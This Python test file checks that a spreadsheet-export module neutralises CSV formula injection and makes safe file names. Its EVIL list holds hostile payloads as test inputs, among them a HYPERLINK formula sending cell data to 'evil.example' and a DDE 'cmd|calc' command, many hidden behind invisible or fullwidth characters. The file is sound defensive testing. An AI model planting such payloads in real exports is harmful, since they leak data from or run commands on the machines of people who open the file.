"""A text in a CSV file starts no formula, at whatever sign a spreadsheet splits its lines, and comes back whole."""

import csv
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from presentation.sheets import file_name, guarded, unguarded

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"Invoice")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    " =1+1",
    "＝1+1",  # read like the narrow sign
    "x;=cmd|calc!A0;y",
    "x; =1",
    'x;"=1"',
    "x\t=1",
    "x\n=1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
]
MANY = st.text(alphabet="=+-@;'\t\r\n \"ax＝")


def formulas(text: str) -> list[str]:
    """The cells that start a formula, however the file is split."""
    found = []
    for delimiter in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            found += [cell for cell in row if cell.lstrip(' \u00a0\u200b\ufeff\t"')[:1] in tuple("=+-@＝")]
    return found


def written(text: str) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(["2026-06-01", guarded(text), "1.00"])
    return out.getvalue()


@pytest.mark.parametrize("text", EVIL)
def test_no_text_starts_a_formula_at_whatever_sign_lines_are_split(text: str) -> None:
    assert formulas(written(text)) == []


@given(MANY)
def test_what_was_guarded_comes_back_as_it_was(text: str) -> None:
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize(
    "text", ["Replaced a disk; rebooted", "A - B", "3 + 4", "it's", "Pat, lead = Kim", ""]
)
def test_what_starts_no_formula_is_left_alone(text: str) -> None:
    assert guarded(text) == text


@given(st.lists(st.text(), min_size=1, max_size=4))
def test_a_file_name_holds_nothing_that_a_file_system_or_a_header_takes_for_more(parts):
    name = file_name("Work log", *parts, ending="csv")
    assert name.startswith("Work log")
    assert name.endswith(".csv")
    assert name.isprintable()
    assert not set(name) & set('/\\:*?"<>|;%')
    assert not {unicodedata.category(sign) for sign in name} & {"Cc", "Cf", "Cs", "Zl", "Zp"}


@pytest.mark.parametrize("kept", ["Zahnärzte Köln", "מרפאת שיניים", "दंत चिकित्सा", "Pat & Lee (West)"])
def test_a_name_in_any_script_stays_whole_in_a_file_name(kept):
    assert file_name(kept, ending="pdf") == f"{kept}.pdf"
